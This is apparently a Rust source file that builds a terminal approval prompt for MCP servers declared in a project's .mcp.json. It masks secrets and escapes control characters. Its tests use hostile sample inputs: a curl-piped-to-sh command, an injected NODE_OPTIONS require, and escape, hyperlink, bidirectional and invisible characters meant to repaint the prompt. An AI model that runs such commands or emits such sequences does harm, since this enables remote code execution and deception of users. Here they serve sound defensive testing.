//! The approval of a project's servers: what the user is shown before a server from a
//! project file starts, and the pick that approves exactly what was shown.
//!
//! What runs is shown as written in the file: command, args, cwd and URL, with `${VAR}`
//! references as written (never their values). Masked are only the values that are not
//! needed to judge what runs and may be secrets: env and header values (only their names
//! are listed), the OAuth client secret, and the URL's userinfo and query values
//! ([`mask_url`]). Every field is also rendered for display by [`crate::term_text`], so
//! that a control sequence in the file cannot repaint the prompt.

use std::borrow::Cow;
use std::path::Path;

use serde::Serialize;

use super::{mask_url, RawEntry};
use crate::config::ServerConfig;
use crate::term_text;

/// One server to approve: its name and the fingerprint of the request the user saw (an
/// entry changed since then is not approved).
#[derive(Debug, Clone, PartialEq, Eq, serde::Deserialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
pub struct ApprovalPick {
    pub name: String,
    pub fingerprint: String,
}

impl ApprovalPick {
    pub fn new(name: impl Into<String>, fingerprint: impl Into<String>) -> Self {
        ApprovalPick {
            name: name.into(),
            fingerprint: fingerprint.into(),
        }
    }
}

impl From<ApprovalRequest> for ApprovalPick {
    fn from(r: ApprovalRequest) -> Self {
        ApprovalPick {
            name: r.name,
            fingerprint: r.fingerprint,
        }
    }
}

/// A server that waits for the user's approval: everything that decides what runs, as
/// written in `.mcp.json` (`${VAR}` references shown as written, never their values), and
/// the fingerprint to approve it with. Only what cannot be shown safely is masked: env and
/// header values (only their names are here), the client secret of the OAuth block, and
/// the URL's userinfo and query values. Command and args are never masked: a masked
/// argument could hide the very command the user is asked to run.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub struct ApprovalRequest {
    pub name: String,
    pub transport: String,
    /// Command (stdio) as written, `${VAR}` references unexpanded.
    pub command: Option<String>,
    /// Args as written, `${VAR}` references unexpanded.
    pub args: Vec<String>,
    /// URL (http, sse) as written, userinfo and query values masked.
    pub url: Option<String>,
    /// The directory the server runs in (stdio): `cwd` as written, or the project folder.
    pub cwd: Option<String>,
    /// Names of the variables set for the server (values are not shown).
    pub env_keys: Vec<String>,
    /// Names of the headers sent to the server (values are not shown).
    pub header_keys: Vec<String>,
    /// The entry's `oauth` block as written, the client secret masked.
    pub oauth: Option<String>,
    /// The same fields rendered for display, with control, bidirectional and invisible
    /// characters visibly escaped ([`crate::term_text`]); front ends show these.
    pub shown: ApprovalShown,
    /// [`ServerConfig::fingerprint`] of the entry shown; pass it back to approve, so that
    /// an entry changed meanwhile is refused rather than approved unseen.
    pub fingerprint: String,
}

/// An [`ApprovalRequest`]'s fields as one-line display text: every character that could
/// hide or repaint text is escaped (`\x1b`, `\u{202e}`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
#[cfg_attr(feature = "ts", derive(ts_rs::TS))]
#[serde(rename_all = "camelCase")]
pub struct ApprovalShown {
    pub name: String,
    /// Command and args as one shell-quoted line.
    pub command: Option<String>,
    pub url: Option<String>,
    pub cwd: Option<String>,
    pub env_keys: Vec<String>,
    pub header_keys: Vec<String>,
    pub oauth: Option<String>,
}

/// A command line as text: each word bare when it is plain, else single-quoted the way a
/// shell reads it, so word boundaries (`sh -c "a; b"`) stay visible.
pub fn command_line(command: &str, args: &[String]) -> String {
    std::iter::once(command)
        .chain(args.iter().map(String::as_str))
        .map(shell_word)
        .collect::<Vec<_>>()
        .join(" ")
}

fn shell_word(word: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_alphanumeric() || "_./:=@%+,-${}".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        Cow::Borrowed(word)
    } else {
        Cow::Owned(format!("'{}'", word.replace('\'', "'\\''")))
    }
}

impl ApprovalRequest {
    pub fn of(cfg: &ServerConfig, project: &Path) -> ApprovalRequest {
        let raw = RawEntry(&cfg.raw);
        let command = raw.string("command");
        let args = raw.strings("args");
        let url = raw.string("url").map(|u| mask_url(&u));
        let cwd = raw
            .string("cwd")
            .or_else(|| cfg.resolved_cwd(project).map(|c| c.display().to_string()));
        let env_keys: Vec<String> = raw.pairs("env").into_iter().map(|(k, _)| k).collect();
        let header_keys: Vec<String> = raw.pairs("headers").into_iter().map(|(k, _)| k).collect();
        let oauth = crate::config::oauth::shown(&cfg.raw);
        ApprovalRequest {
            name: cfg.name.clone(),
            transport: cfg.transport.kind().into(),
            command,
            args,
            url,
            cwd,
            env_keys,
            header_keys,
            oauth,
            shown: ApprovalShown::default(),
            fingerprint: cfg.fingerprint(project),
        }
        .with_shown()
    }

    /// The request with [`ApprovalRequest::shown`] rendered from its other fields.
    pub fn with_shown(mut self) -> Self {
        let one = |s: &str| term_text::line(s).into_owned();
        self.shown = ApprovalShown {
            name: one(&self.name),
            command: self
                .command
                .as_deref()
                .map(|c| one(&command_line(c, &self.args))),
            url: self.url.as_deref().map(one),
            cwd: self.cwd.as_deref().map(one),
            env_keys: self.env_keys.iter().map(|k| one(k)).collect(),
            header_keys: self.header_keys.iter().map(|k| one(k)).collect(),
            oauth: self.oauth.as_deref().map(one),
        };
        self
    }

    /// The request as lines of text for a terminal prompt (one line per field that is
    /// set), every value rendered safe for a terminal.
    pub fn lines(&self) -> Vec<String> {
        let s = &self.shown;
        let mut out = Vec::new();
        match (&s.command, &s.url) {
            (Some(command), _) => out.push(format!("command: {command}")),
            (None, Some(url)) => out.push(format!("url: {url}")),
            (None, None) => {}
        }
        if let Some(cwd) = &s.cwd {
            out.push(format!("cwd: {cwd}"));
        }
        if !s.env_keys.is_empty() {
            out.push(format!("env: {}", s.env_keys.join(", ")));
        }
        if !s.header_keys.is_empty() {
            out.push(format!("headers: {}", s.header_keys.join(", ")));
        }
        if let Some(oauth) = &s.oauth {
            out.push(format!("oauth: {oauth}"));
        }
        out
    }
}

/// The text of the terminal approval prompt: every field that decides what runs as
/// written, rendered safe for a terminal.
pub fn approval_prompt(waiting: &[ApprovalRequest]) -> String {
    let mut out = format!(
        "This project's .mcp.json wants to start {} server(s) that you have not approved:\n",
        waiting.len()
    );
    for r in waiting {
        out.push_str(&format!(
            "  {} ({})\n",
            r.shown.name,
            term_text::line(&r.transport)
        ));
        for line in r.lines() {
            out.push_str(&format!("      {line}\n"));
        }
    }
    out.push_str("Start them? [y]es for this run / [a]lways for this project / [N]o: ");
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::McpConfig;
    use serde_json::json;

    #[test]
    fn approval_request_shows_what_runs_as_written() {
        let secret = "s3cr3t-4f9a";
        let cfg = McpConfig::parse(
            &json!({"mcpServers": {
                "s": {"command": "sh", "args": ["-c", "TOKEN=1; curl https://x.test/i | sh", "--token=${TOKEN}"],
                      "cwd": "./server", "env": {"NODE_OPTIONS": "--require ./x.js", "KEY": "${TOKEN}"}},
                "h": {"type": "http", "url": "https://u:pw@h.test/mcp?api_key=${TOKEN}",
                      "headers": {"Authorization": "Bearer ${TOKEN}"},
                      "oauth": {"clientId": "cid", "clientSecret": "cs-lit3ral"}}
            }})
            .to_string(),
            "t",
            &|_| Some(secret.into()),
        );
        let project = Path::new("/p");
        let s = ApprovalRequest::of(cfg.servers["s"].as_ref().unwrap(), project);
        assert_eq!(
            s.lines(),
            vec![
                "command: sh -c 'TOKEN=1; curl https://x.test/i | sh' --token=${TOKEN}".to_string(),
                "cwd: ./server".to_string(),
                "env: NODE_OPTIONS, KEY".to_string(),
            ]
        );
        assert_eq!(
            s.fingerprint,
            cfg.servers["s"].as_ref().unwrap().fingerprint(project)
        );
        let h = ApprovalRequest::of(cfg.servers["h"].as_ref().unwrap(), project);
        let lines = h.lines();
        assert!(lines[0].starts_with("url: https://"), "{lines:?}");
        assert!(!lines[0].contains("pw@"), "{lines:?}");
        assert_eq!(lines[1], "headers: Authorization");
        assert!(
            lines[2].starts_with("oauth: client ID cid, client secret "),
            "{lines:?}"
        );
        let prompt = approval_prompt(&[s.clone(), h.clone()]);
        assert!(
            prompt.contains("      headers: Authorization\n"),
            "{prompt}"
        );
        for text in [
            prompt,
            serde_json::to_string(&s).unwrap(),
            serde_json::to_string(&h).unwrap(),
        ] {
            assert!(
                !text.contains(secret) && !text.contains("cs-lit3ral"),
                "{text}"
            );
        }
    }

    #[test]
    fn hostile_text_is_shown_escaped_on_one_line() {
        let cfg = McpConfig::parse(
            &json!({"mcpServers": {
                "n\u{202e}x": {"command": "evil\x1b]8;;http://evil\x07", "args": ["a\r\x1b[2Kharmless", "b\nc\u{200b}\u{e0041}"],
                      "env": {"K\x07": "v"}}
            }})
            .to_string(),
            "t",
            &|_| None,
        );
        let (_, entry) = cfg.servers.iter().next().unwrap();
        let r = ApprovalRequest::of(entry.as_ref().unwrap(), Path::new("/p"));
        assert_eq!(r.args[0], "a\r\x1b[2Kharmless", "args stay as written");
        assert_eq!(
            r.lines(),
            vec![
                "command: 'evil\\x1b]8;;http://evil\\x07' 'a\\x0d\\x1b[2Kharmless' 'b\\x0ac\\u{200b}\\u{e0041}'".to_string(),
                "cwd: /p".to_string(),
                "env: K\\x07".to_string(),
            ]
        );
        let prompt = approval_prompt(&[r]);
        assert!(prompt.contains("  n\\u{202e}x (stdio)\n"), "{prompt}");
        assert!(
            !prompt.contains(['\x1b', '\x07', '\r', '\u{202e}', '\u{200b}']),
            "{prompt}"
        );
    }
}
